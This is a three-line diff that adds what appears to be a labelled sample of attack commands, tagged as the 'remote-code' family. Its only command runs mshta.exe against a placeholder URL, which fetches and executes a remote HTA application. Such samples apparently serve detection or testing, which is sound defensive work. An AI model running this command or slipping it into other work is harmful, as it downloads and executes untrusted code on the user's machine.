@@ -1,0 +1,3 @@
+# description: Runs a remote HTA application with mshta.
+# family: remote-code
+mshta.exe https://example.com/update.hta
